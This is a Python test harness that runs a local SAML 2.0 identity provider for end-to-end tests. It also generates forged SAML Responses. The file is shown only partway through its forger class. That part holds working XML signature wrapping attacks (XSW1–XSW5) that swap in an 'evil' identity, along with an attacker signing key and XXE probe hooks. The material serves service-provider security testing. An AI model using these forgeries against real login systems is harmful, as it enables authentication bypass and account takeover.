#!/usr/bin/env python3
"""A real SAML 2.0 Identity Provider on 127.0.0.1 for tests, plus a generator of hostile Responses.

Genuine flows (SP-initiated Redirect → POST, IdP-initiated) are made by PyPI pysaml2, which signs and encrypts
through Debian's xmlsec1 CLI. The attack corpus (POST /forge) is built independently of pysaml2 with lxml and
python-xmlsec (libxmlsec1), from a correct template that each kind breaks in exactly one named way.

Started as `python3 end2end/peers/saml-idp.py` with env PORT (0 = any free port) and optional SAML_IDP_DIR.
Prints "READY http://127.0.0.1:<port>" once listening; stops when stdin reaches EOF, on SIGTERM, or after
10 minutes. Logs to stderr only. The HTTP interface and every forge kind are described in saml-idp.md.
"""
import base64
import copy
import datetime as dt
import functools
import html
import io
import json
import logging
import os
import secrets
import shutil
import signal
import sys
import tempfile
import threading
import urllib.parse
import warnings
import zlib
from dataclasses import dataclass, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# pysaml2 still names cryptography's CFB mode where cryptography warns it has moved: keep stderr readable.
warnings.filterwarnings("ignore", message=".*has been moved to cryptography.hazmat.decrepit.*")

import saml2.entity
import saml2.request
import saml2.sigver
import xmlsec
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from lxml import etree
from saml2 import BINDING_HTTP_POST, BINDING_HTTP_REDIRECT, saml
from saml2.assertion import Policy
from saml2.attribute_converter import AttributeConverter
from saml2.config import IdPConfig
from saml2.s_utils import do_ava, factory
from saml2.saml import NAME_FORMAT_BASIC, NAME_FORMAT_UNSPECIFIED, NAME_FORMAT_URI
from saml2.server import Server

LIFETIME_MINUTES = 10
log = logging.getLogger("saml-idp")

NS = {
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
    "xenc": "http://www.w3.org/2001/04/xmlenc#",
    "md": "urn:oasis:names:tc:SAML:2.0:metadata",
}
NAMEID_EMAIL = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
NAMEID_PERSISTENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"
STATUS_SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
STATUS_RESPONDER = "urn:oasis:names:tc:SAML:2.0:status:Responder"
STATUS_AUTHN_FAILED = "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"
BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"
PPT = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
SIG_RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
DIGEST_SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
AES128_CBC = "http://www.w3.org/2001/04/xmlenc#aes128-cbc"
REF_PROBE_BODY = b"latchkey saml-idp ref-probe\n"  # what GET /ref-probe serves (and what reference_uri_http digests)
HOSTNAME_FILE = "/etc/hostname"
INNER_DOCTYPE = b'<!DOCTYPE saml:Assertion [<!ENTITY x "y">]>\n'  # what encrypted_inner_dtd puts before the Assertion


def q(prefix, local):
    """Clark notation {ns}local for lxml."""
    return f"{{{NS[prefix]}}}{local}"


def utc(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def new_id(prefix="_"):
    return prefix + secrets.token_hex(16)


def pem_body(pem):
    """The base64 of a PEM certificate without armour or line breaks (for XML X509Certificate)."""
    return "".join(line for line in pem.strip().splitlines() if not line.startswith("-----"))


# --------------------------------------------------------------------------------------------------------------
# Keys: the IdP's genuine signing key, an attacker's key, and an unused "rollover" cert for ?extra_cert=1.
# --------------------------------------------------------------------------------------------------------------
@dataclass
class KeyPair:
    key_file: str
    cert_file: str
    key_pem: str
    cert_pem: str

    def xmlsec_key(self):
        k = xmlsec.Key.from_memory(self.key_pem.encode(), xmlsec.KeyFormat.PEM, None)
        k.load_cert_from_memory(self.cert_pem.encode(), xmlsec.KeyFormat.PEM)
        return k


def make_keypair(directory, name, common_name):
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    now = dt.datetime.now(dt.timezone.utc)
    cert = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=365))
        .sign(key, hashes.SHA256())
    )
    key_pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    cert_pem = cert.public_bytes(serialization.Encoding.PEM).decode()
    key_file, cert_file = os.path.join(directory, f"{name}.key.pem"), os.path.join(directory, f"{name}.cert.pem")
    for path, text in ((key_file, key_pem), (cert_file, cert_pem)):
        with open(path, "w") as f:
            f.write(text)
    os.chmod(key_file, 0o600)
    return KeyPair(key_file, cert_file, key_pem, cert_pem)


# --------------------------------------------------------------------------------------------------------------
# IdP metadata (written by hand so that ?nocert=1 and ?extra_cert=1 are easy).
# --------------------------------------------------------------------------------------------------------------
def idp_metadata(base, certs):
    keys = "".join(
        f'<md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>{pem_body(c)}'
        "</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>"
        for c in certs
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<md:EntityDescriptor xmlns:md="{NS["md"]}" xmlns:ds="{NS["ds"]}" entityID="{base}/metadata">'
        f'<md:IDPSSODescriptor WantAuthnRequestsSigned="true" '
        f'protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">{keys}'
        f"<md:NameIDFormat>{NAMEID_EMAIL}</md:NameIDFormat>"
        f"<md:NameIDFormat>{NAMEID_PERSISTENT}</md:NameIDFormat>"
        f'<md:SingleSignOnService Binding="{BINDING_HTTP_REDIRECT}" Location="{base}/sso/redirect"/>'
        "</md:IDPSSODescriptor></md:EntityDescriptor>\n"
    )


# --------------------------------------------------------------------------------------------------------------
# pysaml2 glue for the genuine flows.
# --------------------------------------------------------------------------------------------------------------
class ExactNames(AttributeConverter):
    """Emit attributes under exactly the names given (pysaml2's own maps would rename givenName & co to
    urn:mace/urn:oid names). `name_format` must equal the release policy's name_form for pysaml2 to pick us;
    `out_format` is what is written into the Attribute (None = no NameFormat attribute, as Entra/ADFS do)."""

    def __init__(self):
        super().__init__(NAME_FORMAT_BASIC)
        self.out_format = NAME_FORMAT_BASIC

    def to_(self, attrvals):
        return [
            factory(saml.Attribute, name=name, name_format=self.out_format, attribute_value=do_ava(values))
            for name, values in attrvals.items()
        ]


class ReleaseEverything(Policy):
    """A test IdP releases every attribute of the user, whatever the SP's metadata asks for."""

    def restrict(self, ava, sp_entity_id, metadata=None):
        return dict(ava)


# pysaml2 encrypts assertions with 3DES-CBC (template and xmlsec1 --session-key des-192 are both hard-wired).
# Use AES-128-CBC instead; key transport stays RSA-OAEP-MGF1P (SHA-1), pysaml2's default.
saml2.entity.pre_encryption_part = functools.partial(saml2.sigver.pre_encryption_part, msg_enc=AES128_CBC)
_orig_encrypt_assertion = saml2.sigver.SecurityContext.encrypt_assertion


def _encrypt_assertion_aes128(self, statement, enc_key, template, key_type="des-192", node_xpath=None):
    return _orig_encrypt_assertion(self, statement, enc_key, template, "aes-128", node_xpath)


saml2.sigver.SecurityContext.encrypt_assertion = _encrypt_assertion_aes128

# pysaml2 checks a Redirect-binding signature over a string it rebuilds by re-encoding the decoded query values
# (urllib.parse.urlencode), not over the octets the SP sent, as SAML Bindings §3.4.4.1 requires. An SP whose
# percent-encoding differs (lower-case hex, '~' or '*' encoded differently, ...) would be refused although its
# signature is right. So the check also runs over the raw query, and that one decides.
_tls = threading.local()
_orig_redirect_check = saml2.request.Request._do_redirect_sig_check


def _redirect_sig_check(self, saml_msg):
    try:
        by_pysaml2 = bool(_orig_redirect_check(self, saml_msg))
    except Exception as e:  # noqa: BLE001 - pysaml2 raises for unknown algorithms
        log.info("pysaml2 redirect signature check raised: %r", e)
        by_pysaml2 = False
    raw = getattr(_tls, "raw_query", None)
    by_spec = raw is not None and verify_raw_redirect_signature(self, raw)
    _tls.sig_checks = {"pysaml2": by_pysaml2, "raw_query": by_spec}
    if by_pysaml2 != by_spec:
        log.warning("redirect signature: pysaml2 re-encoded check=%s, raw-query check=%s", by_pysaml2, by_spec)
    return by_spec


saml2.request.Request._do_redirect_sig_check = _redirect_sig_check


def raw_signed_octets(raw_query):
    """SAMLRequest=..&RelayState=..&SigAlg=.. exactly as they came in the query (SAML Bindings §3.4.4.1)."""
    parts = {}
    for piece in raw_query.split("&"):
        name = piece.split("=", 1)[0]
        if name in ("SAMLRequest", "RelayState", "SigAlg") and name not in parts:
            parts[name] = piece
    return "&".join(parts[n] for n in ("SAMLRequest", "RelayState", "SigAlg") if n in parts).encode("ascii")


def verify_raw_redirect_signature(request, raw_query):
    params = urllib.parse.parse_qs(raw_query, keep_blank_values=True)
    sigalg, signature = params.get("SigAlg", [None])[0], params.get("Signature", [None])[0]
    if not sigalg or not signature:
        return False
    signer = request.sec.sec_backend.get_signer(sigalg)
    if signer is None:
        return False
    octets = raw_signed_octets(raw_query)
    try:
        sig = base64.b64decode(signature)
    except ValueError:
        return False
    for _name, cert in request.sec.metadata.certs(request.sender(), "any", "signing"):
        key = saml2.sigver.extract_rsa_key_from_x509_cert(saml2.sigver.pem_format(cert))
        try:
            if signer.verify(octets, sig, key):
                return True
        except Exception:  # noqa: BLE001 - a wrong key type or a malformed signature is simply "not verified"
            continue
    return False


def make_pysaml2_server(base, genuine):
    conf = {
        "entityid": f"{base}/metadata",
        "service": {
            "idp": {
                "name": "Latchkey test IdP",
                "endpoints": {"single_sign_on_service": [(f"{base}/sso/redirect", BINDING_HTTP_REDIRECT)]},
                "want_authn_requests_signed": True,
                "name_id_format": [NAMEID_EMAIL, NAMEID_PERSISTENT],
                "sign_response": True,
                "sign_assertion": True,
            }
        },
        "key_file": genuine.key_file,
        "cert_file": genuine.cert_file,
        "encryption_keypairs": [{"key_file": genuine.key_file, "cert_file": genuine.cert_file}],
        "xmlsec_binary": "/usr/bin/xmlsec1",
        "signing_algorithm": SIG_RSA_SHA256,
        "digest_algorithm": DIGEST_SHA256,
        "accepted_time_diff": 60,
        "metadata": {},
        "delete_tmpfiles": True,  # pysaml2 hands xmlsec1 its documents through (deleted) temp files
    }
    config = IdPConfig().load(conf)
    config.attribute_converters = [ExactNames()]
    return Server(config=config)


# --------------------------------------------------------------------------------------------------------------
# State shared by the HTTP handlers.
# --------------------------------------------------------------------------------------------------------------
class State:
    def __init__(self, base, directory):
        self.base = base
        self.entity_id = f"{base}/metadata"
        self.dir = directory
        self.genuine = make_keypair(directory, "idp", "Latchkey test SAML IdP")
        self.attacker = make_keypair(directory, "attacker", "Evil attacker")
        self.rollover = make_keypair(directory, "rollover", "Latchkey test SAML IdP (next key)")
        self.genuine_key = self.genuine.xmlsec_key()
        self.attacker_key = self.attacker.xmlsec_key()
        self.idp = make_pysaml2_server(base, self.genuine)
        self.policy = ReleaseEverything(
            {"default": {"lifetime": {"minutes": 5}, "name_form": NAME_FORMAT_BASIC}}, self.idp.metadata
        )
        self.user = {
            "name_id": "user@example.com",
            "name_id_format": "email",
            "email": "user@example.com",
            "given_name": "Test",
            "family_name": "User",
            "groups": [],
        }
        self.mode = {"sign_response": True, "sign_assertion": True, "encrypt": False}
        self.sps = {}  # entity id -> metadata key in the pysaml2 MetadataStore
        self.hits = {"xxe": 0, "ref": 0}
        self.xxe_body = b"evil@example.com"  # what /xxe-probe serves: the last xxe_http forge's expansion
        self.lock = threading.Lock()  # pysaml2's config and metadata store are shared; one response at a time
        self.hits_lock = threading.Lock()

    def hit(self, probe):
        with self.hits_lock:
            self.hits[probe] += 1

    # ---- SP registration -----------------------------------------------------------------------------------
    def register_sp(self, xml_text):
        try:
            root = etree.fromstring(xml_text.encode(), etree.XMLParser(resolve_entities=False, no_network=True))
        except etree.XMLSyntaxError as e:
            raise ValueError(f"SP metadata is not well-formed XML: {e}") from e
        if root.tag != q("md", "EntityDescriptor"):
            raise ValueError("SP metadata must be one md:EntityDescriptor")
        entity_id = root.get("entityID")
        if not entity_id:
            raise ValueError("EntityDescriptor has no entityID")
        if root.find(q("md", "SPSSODescriptor")) is None:
            raise ValueError("EntityDescriptor has no SPSSODescriptor")
        with self.lock:
            mds = self.idp.metadata
            old = self.sps.pop(entity_id, None)
            if old is not None:
                mds.metadata.pop(old, None)
            try:
                mds.load("inline", xml_text)
            except Exception as e:  # noqa: BLE001 - report pysaml2's reason
                raise ValueError(f"pysaml2 refused the SP metadata: {e!r}") from e
            key = max(k for k in mds.metadata if isinstance(k, int))
            if entity_id not in mds.metadata[key].entity:
                mds.metadata.pop(key, None)
                raise ValueError("pysaml2 found no entity in the SP metadata (expired validUntil?)")
            self.sps[entity_id] = key
            acs = [s["location"] for s in mds.assertion_consumer_service(entity_id, BINDING_HTTP_POST)]
            signing = mds.certs(entity_id, "spsso", "signing")
            encryption = mds.certs(entity_id, "spsso", "encryption")
        if not acs:
            raise ValueError("SP has no AssertionConsumerService with the HTTP-POST binding")
        log.info("registered SP %s (acs %s, %d signing / %d encryption certs)", entity_id, acs, len(signing),
                 len(encryption))
        return {"entity_id": entity_id, "acs": acs, "signing_certs": len(signing),
                "encryption_certs": len(encryption)}

    # ---- the current user -------------------------------------------------------------------------------------
    def set_user(self, body):
        if not isinstance(body.get("name_id"), str) or not body["name_id"]:
            raise ValueError("name_id (a non-empty string) is required")
        fmt = body.get("name_id_format", "email")
        if fmt not in ("email", "persistent"):
            raise ValueError('name_id_format must be "email" or "persistent"')
        groups = body.get("groups", [])
        if not isinstance(groups, list) or not all(isinstance(g, str) for g in groups):
            raise ValueError("groups must be a list of strings")
        names = body.get("attribute_names", {})
        if not isinstance(names, dict) or set(names) - {"email", "given_name", "family_name", "groups"}:
            raise ValueError("attribute_names may only map email, given_name, family_name, groups")
        name_format = body.get("attribute_name_format", "basic")
        if name_format not in ("basic", "uri", "unspecified", "none"):
            raise ValueError('attribute_name_format must be "basic", "uri", "unspecified" or "none"')
        self.user = {
            "name_id": body["name_id"],
            "name_id_format": fmt,
            "email": body.get("email", body["name_id"]),
            "given_name": body.get("given_name", ""),
            "family_name": body.get("family_name", ""),
            "groups": groups,
            "attribute_names": names,
            "attribute_name_format": name_format,
        }
        return self.user

    def identity(self):
        """The attribute statement of the current user: {claim name: [values]} (empty values left out)."""
        u = self.user
        names = {"email": "email", "given_name": "givenName", "family_name": "sn", "groups": "groups"}
        names.update(u.get("attribute_names") or {})
        values = {"email": [u["email"]], "given_name": [u["given_name"]], "family_name": [u["family_name"]],
                  "groups": list(u["groups"])}
        return {names[k]: [x for x in v if x] for k, v in values.items() if any(v)}

    # ---- genuine responses, made by pysaml2 -------------------------------------------------------------------
    def genuine_response(self, sp_entity_id, acs_url, in_response_to):
        u = self.user
        fmt = NAMEID_EMAIL if u["name_id_format"] == "email" else NAMEID_PERSISTENT
        name_id = saml.NameID(format=fmt, text=u["name_id"])
        if fmt == NAMEID_PERSISTENT:
            name_id.name_qualifier = self.entity_id
            name_id.sp_name_qualifier = sp_entity_id
        out_format = {"basic": NAME_FORMAT_BASIC, "uri": NAME_FORMAT_URI, "unspecified": NAME_FORMAT_UNSPECIFIED,
                      "none": None}[u.get("attribute_name_format", "basic")]
        with self.lock:
            self.idp.config.attribute_converters[0].out_format = out_format
            encrypt = self.mode["encrypt"]
            if encrypt and not self.idp.metadata.certs(sp_entity_id, "spsso", "encryption"):
                raise ValueError("encrypt is on but the SP's metadata has no encryption certificate")
            response = self.idp.create_authn_response(
                identity=self.identity(),
                in_response_to=in_response_to,
                destination=acs_url,
                sp_entity_id=sp_entity_id,
                name_id=name_id,
                authn={"class_ref": PPT, "authn_auth": self.entity_id},
                sign_response=self.mode["sign_response"],
                sign_assertion=self.mode["sign_assertion"],
                encrypt_assertion=encrypt,
                encrypt_assertion_self_contained=True,
                release_policy=self.policy,
                sign_alg=SIG_RSA_SHA256,
                digest_alg=DIGEST_SHA256,
            )
        text = str(response)
        if "Assertion" not in text:
            raise ValueError(f"pysaml2 made no assertion: {text[:500]}")
        return text.encode("utf-8")


def post_form(acs_url, saml_response_xml, relay_state):
    """The usual auto-submitting HTML form of the HTTP-POST binding."""
    b64 = base64.b64encode(saml_response_xml).decode("ascii")
    relay = ""
    if relay_state is not None:
        relay = f'<input type="hidden" name="RelayState" value="{html.escape(relay_state, quote=True)}"/>'
    return (
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>SAML POST</title></head>"
        '<body onload="document.forms[0].submit()">'
        f'<form method="post" action="{html.escape(acs_url, quote=True)}">'
        f'<input type="hidden" name="SAMLResponse" value="{b64}"/>{relay}'
        '<noscript><button type="submit">Continue</button></noscript></form></body></html>\n'
    )


# --------------------------------------------------------------------------------------------------------------
# The attack corpus: a correct template (lxml), signatures and encryption by python-xmlsec (libxmlsec1).
# --------------------------------------------------------------------------------------------------------------
@dataclass
class Shape:
    """Every value of the template that a forge kind may change."""

    issuer: str
    destination: str
    recipient: str
    audience: str | None
    in_response_to: str | None
    name_id: str
    email: str
    given_name: str
    family_name: str
    issue_instant: dt.datetime
    not_before: dt.datetime
    not_on_or_after: dt.datetime
    scd_not_on_or_after: dt.datetime


def el(parent, tag, text=None, **attrs):
    e = etree.SubElement(parent, tag, {k: v for k, v in attrs.items() if v is not None})
    if text is not None:
        e.text = text
    return e


def build_assertion(s, default_ns=False):
    """A self-contained saml:Assertion (it declares its own namespace, so it can be encrypted on its own).
    default_ns: the assertion namespace as the default namespace, every element unprefixed (as ADFS writes it)."""
    a = etree.Element(q("saml", "Assertion"), nsmap={None if default_ns else "saml": NS["saml"]},
                      ID=new_id(), Version="2.0", IssueInstant=utc(s.issue_instant))
    el(a, q("saml", "Issuer"), s.issuer)
    subject = el(a, q("saml", "Subject"))
    el(subject, q("saml", "NameID"), s.name_id, Format=NAMEID_EMAIL)
    sc = el(subject, q("saml", "SubjectConfirmation"), Method=BEARER)
    el(sc, q("saml", "SubjectConfirmationData"), NotOnOrAfter=utc(s.scd_not_on_or_after), Recipient=s.recipient,
       InResponseTo=s.in_response_to)
    cond = el(a, q("saml", "Conditions"), NotBefore=utc(s.not_before), NotOnOrAfter=utc(s.not_on_or_after))
    if s.audience is not None:
        el(el(cond, q("saml", "AudienceRestriction")), q("saml", "Audience"), s.audience)
    authn = el(a, q("saml", "AuthnStatement"), AuthnInstant=utc(s.issue_instant), SessionIndex=new_id())
    el(el(authn, q("saml", "AuthnContext")), q("saml", "AuthnContextClassRef"), PPT)
    stmt = el(a, q("saml", "AttributeStatement"))
    for name, value in (("email", s.email), ("givenName", s.given_name), ("sn", s.family_name)):
        attr = el(stmt, q("saml", "Attribute"), Name=name, NameFormat=NAME_FORMAT_BASIC)
        el(attr, q("saml", "AttributeValue"), value)
    return a


def build_response(s, assertions, status=STATUS_SUCCESS, sub_status=None, message=None, default_ns=False):
    """default_ns: no saml prefix at all, the Issuer declares the assertion namespace as its default (as ADFS writes
    <Issuer xmlns="urn:oasis:names:tc:SAML:2.0:assertion">), so that a default-namespace EncryptedAssertion or
    Assertion appended later keeps its own declaration (lxml drops a declaration whose URI is already in scope)."""
    nsmap = {"samlp": NS["samlp"]} if default_ns else {"samlp": NS["samlp"], "saml": NS["saml"]}
    r = etree.Element(q("samlp", "Response"), nsmap=nsmap,
                      ID=new_id(), Version="2.0", IssueInstant=utc(s.issue_instant), Destination=s.destination)
    if s.in_response_to is not None:
        r.set("InResponseTo", s.in_response_to)
    if default_ns:
        etree.SubElement(r, q("saml", "Issuer"), nsmap={None: NS["saml"]}).text = s.issuer
    else:
        el(r, q("saml", "Issuer"), s.issuer)
    st = el(r, q("samlp", "Status"))
    code = el(st, q("samlp", "StatusCode"), Value=status)
    if sub_status:
        el(code, q("samlp", "StatusCode"), Value=sub_status)
    if message:
        el(st, q("samlp", "StatusMessage"), message)
    for a in assertions:
        r.append(a)
    return r


def signature_of(element):
    """The enveloped ds:Signature that is a direct child of element (or None)."""
    return element.find(q("ds", "Signature"))


def assertion_of(response):
    return response.find(q("saml", "Assertion"))


def sign(element, key, sha1=False, extra_uris=()):
    """Enveloped XML-DSig over element (by its ID), placed right after its Issuer: exclusive c14n, RSA-SHA256 and
    SHA-256 (or RSA-SHA1/SHA-1), the signer's certificate in KeyInfo. extra_uris add Reference elements with those
    URIs (no transforms) to the same SignedInfo."""
    sig_alg = xmlsec.Transform.RSA_SHA1 if sha1 else xmlsec.Transform.RSA_SHA256
    digest = xmlsec.Transform.SHA1 if sha1 else xmlsec.Transform.SHA256
    sig = xmlsec.template.create(element, xmlsec.Transform.EXCL_C14N, sig_alg, ns="ds")
    element.find(q("saml", "Issuer")).addnext(sig)
    ref = xmlsec.template.add_reference(sig, digest, uri="#" + element.get("ID"))
    xmlsec.template.add_transform(ref, xmlsec.Transform.ENVELOPED)
    xmlsec.template.add_transform(ref, xmlsec.Transform.EXCL_C14N)
    for uri in extra_uris:
        xmlsec.template.add_reference(sig, digest, uri=uri)
    x509_data = xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(sig))
    xmlsec.template.x509_data_add_certificate(x509_data)
    ctx = xmlsec.SignatureContext()
    ctx.key = key
    ctx.register_id(element, "ID")
    ctx.sign(sig)
    return sig


def encrypt_assertion(response, assertion, sp_cert_pem, cipher, key_transport=xmlsec.Transform.RSA_OAEP,
                      plaintext=None):
    """Replace assertion by saml:EncryptedAssertion/xenc:EncryptedData (cipher = an xmlsec AES transform), the
    session key in an xenc:EncryptedKey under key_transport (RSA_OAEP: RSA-OAEP-MGF1P with SHA-1; RSA_PKCS1:
    RSA PKCS#1 v1.5) to the SP's certificate. plaintext (octets), when given, is encrypted instead of the
    assertion's own serialization (the EncryptedData still says Type Element)."""
    enc, ctx = encryption_template(response, sp_cert_pem, cipher, key_transport, key_info_ns="ds")
    wrapper = etree.Element(q("saml", "EncryptedAssertion"))
    assertion.addprevious(wrapper)
    if plaintext is None:
        wrapper.append(ctx.encrypt_xml(enc, assertion))
    else:
        wrapper.append(ctx.encrypt_binary(enc, plaintext))
        assertion.getparent().remove(assertion)
    return wrapper


def encryption_template(doc_node, sp_cert_pem, cipher, key_transport, key_info_ns):
    """An xenc:EncryptedData template (Type Element, in doc_node's document, not yet in the tree) with
    KeyInfo/xenc:EncryptedKey, and an EncryptionContext holding a fresh AES session key for cipher. key_info_ns
    "ds" writes <ds:KeyInfo xmlns:ds=...>; None lets libxmlsec1 declare the XML-DSig namespace as the default
    one, <KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#"> (as ADFS writes it)."""
    enc = xmlsec.template.encrypted_data_create(doc_node, cipher, type=xmlsec.EncryptionType.ELEMENT, ns="xenc")
    xmlsec.template.encrypted_data_ensure_cipher_value(enc)
    key_info = xmlsec.template.encrypted_data_ensure_key_info(enc, ns=key_info_ns)
    enc_key = xmlsec.template.add_encrypted_key(key_info, key_transport)
    xmlsec.template.encrypted_data_ensure_cipher_value(enc_key)
    manager = xmlsec.KeysManager()
    manager.add_key(xmlsec.Key.from_memory(sp_cert_pem.encode(), xmlsec.KeyFormat.CERT_PEM, None))
    ctx = xmlsec.EncryptionContext(manager)
    bits = {xmlsec.Transform.AES128: 128, xmlsec.Transform.AES256: 256, xmlsec.Transform.AES128_GCM: 128,
            xmlsec.Transform.AES256_GCM: 256}
    ctx.key = xmlsec.Key.generate(xmlsec.KeyData.AES, bits[cipher], xmlsec.KeyDataType.SESSION)
    return enc, ctx


def encrypt_assertion_default_ns(response, assertion, sp_cert_pem, cipher, self_contained):
    """ADFS's shape. Replace assertion (a default-namespace one, not yet in response) by a last child
    <EncryptedAssertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion"> holding xenc:EncryptedData, whose
    <KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#"> holds the xenc:EncryptedKey (RSA-OAEP-MGF1P). The plaintext:
    self_contained false: the Assertion is moved into the EncryptedAssertion first, where lxml drops its declaration
    (the same URI is the default there), and libxmlsec1 encrypts that node as it stands: the octets begin
    `<Assertion ID=` with no xmlns, so they mean a SAML Assertion only when parsed in the EncryptedAssertion's
    scope. self_contained true: etree.tostring of the Assertion on its own, `<Assertion xmlns="urn:...:assertion"`
    (encrypt_binary; the EncryptedData still says Type Element)."""
    enc, ctx = encryption_template(response, sp_cert_pem, cipher, xmlsec.Transform.RSA_OAEP, key_info_ns=None)
    wrapper = etree.SubElement(response, q("saml", "EncryptedAssertion"), nsmap={None: NS["saml"]})
    if self_contained:
        wrapper.append(ctx.encrypt_binary(enc, etree.tostring(assertion)))
    else:
        wrapper.append(assertion)
        ctx.encrypt_xml(enc, assertion)  # the EncryptedData takes the Assertion's place in the wrapper
    return wrapper


def serialize(root, doctype=None):
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8", doctype=doctype)


def tamper_identity(assertion, evil):
    """Point the assertion at the evil identity: its NameID and its email attribute."""
    for value in identity_nodes(assertion):
        value.text = evil


def identity_nodes(assertion):
    """The assertion's own Subject/NameID and email AttributeValue (not those of an Assertion nested inside)."""
    nodes = [assertion.find(f'{q("saml", "Subject")}/{q("saml", "NameID")}')]
    for attr in assertion.iterfind(f'{q("saml", "AttributeStatement")}/{q("saml", "Attribute")}'):
        if attr.get("Name") == "email":
            nodes.append(attr.find(q("saml", "AttributeValue")))
    return nodes


def without_signature(element):
    """A deep copy of element with its own enveloped ds:Signature removed."""
    clone = copy.deepcopy(element)
    sig = signature_of(clone)
    if sig is not None:
        clone.remove(sig)
    return clone


class ForgeError(ValueError):
    pass


class Forger:
    """POST /forge: one method per kind, each returning the XML octets of a whole samlp:Response."""

    def __init__(self, state, req):
        self.state = state
        for field in ("sp_entity_id", "acs_url", "name_id"):
            if not isinstance(req.get(field), str) or not req[field]:
                raise ForgeError(f"{field} (a non-empty string) is required")
        irt = req.get("in_response_to")
        if irt is not None and not isinstance(irt, str):
            raise ForgeError("in_response_to must be a string or null")
        self.req = req
        email = req.get("email") or req["name_id"]
        domain = email.rsplit("@", 1)[1] if "@" in email else "example.com"
        self.evil = f"evil@{domain}"
        now = dt.datetime.now(dt.timezone.utc).replace(microsecond=0)
        self.now = now
        self.shape = Shape(
            issuer=state.entity_id,
            destination=req["acs_url"],
            recipient=req["acs_url"],
            audience=req["sp_entity_id"],
            in_response_to=irt,
            name_id=req["name_id"],
            email=email,
            given_name=req.get("given_name") or "Test",
            family_name=req.get("family_name") or "User",
            issue_instant=now,
            not_before=now - dt.timedelta(seconds=30),
            not_on_or_after=now + dt.timedelta(minutes=5),
            scd_not_on_or_after=now + dt.timedelta(minutes=5),
        )
        self.key = state.genuine_key

    def signed(self, shape=None, sign_assertion=True, sign_response=True, key=None, sha1=False):
        """The correct template, Assertion signed first, then the Response over it."""
        shape = shape or self.shape
        key = key or self.key
        a = build_assertion(shape)
        r = build_response(shape, [a])
        if sign_assertion:
            sign(a, key, sha1=sha1)
        if sign_response:
            sign(r, key, sha1=sha1)
        return r

    def sp_cert(self):
        pem = self.req.get("sp_cert_pem")
        if not isinstance(pem, str) or "BEGIN CERTIFICATE" not in pem:
            raise ForgeError("this kind needs sp_cert_pem (the SP's encryption certificate, PEM)")
        return pem

    # ---- correct ones ----------------------------------------------------------------------------------------
    def valid(self):
        """Both the Response and the Assertion signed by the genuine key. Must be accepted."""
        return serialize(self.signed())

    def valid_assertion_signed(self):
        """Only the Assertion signed. Must be accepted."""
        return serialize(self.signed(sign_response=False))

    def valid_response_signed(self):
        """Only the Response signed (it covers the Assertion). Must be accepted."""
        return serialize(self.signed(sign_assertion=False))

    # ---- XML signature wrapping, SAMLRaider numbering ------------------------------------------------------------
    # XSW1/XSW2 start from a Response-signed-only document, XSW3–XSW8 from an Assertion-signed-only one (with the
    # other signature the attack would break a signature by construction). In each, the signed original stays in
    # the document where the signature reference still finds it, while the element an SP naively reads
    # (the root Response's first Assertion) carries the evil identity.
    def xsw1(self):
        """Response wrapping: the root Response gets a new ID and the evil identity; a clean copy of the original
        Response (with the original ID) is appended inside the root's ds:Signature."""
        r = self.signed(sign_assertion=False)
        sig = signature_of(r)
        sig.append(without_signature(r))
        r.set("ID", new_id("_evil_response_"))
        tamper_identity(assertion_of(r), self.evil)
        return serialize(r)

    def xsw2(self):
        """Like XSW1, but the clean original Response is inserted as a sibling right before the ds:Signature
        (a detached signature)."""
        r = self.signed(sign_assertion=False)
        sig = signature_of(r)
        sig.addprevious(without_signature(r))
        r.set("ID", new_id("_evil_response_"))
        tamper_identity(assertion_of(r), self.evil)
        return serialize(r)

    def xsw3(self):
        """An unsigned evil Assertion (new ID) inserted before the signed original, as the first Assertion."""
        r = self.signed(sign_response=False)
        a = assertion_of(r)
        evil = without_signature(a)
        evil.set("ID", new_id("_evil_assertion_"))
        tamper_identity(evil, self.evil)
        a.addprevious(evil)
        return serialize(r)

    def xsw4(self):
        """The evil Assertion (new ID, no signature) replaces the original, which is moved inside it."""
        r = self.signed(sign_response=False)
        a = assertion_of(r)
        evil = without_signature(a)
        evil.set("ID", new_id("_evil_assertion_"))
        tamper_identity(evil, self.evil)
        a.addprevious(evil)
        evil.append(a)
        return serialize(r)

    def xsw5(self):
        """The Assertion in place keeps its ds:Signature but gets a new ID and the evil identity; a clean copy of
        the original (original ID, no signature) is appended at the end of the Response."""
        r = self.signed(sign_response=False)
        a = assertion_of(r)
        r.append(without_signature(a))
        a.set("ID", new_id("_evil_assertion_"))
        tamper_identity(a, self.evil)
        return serialize(r)

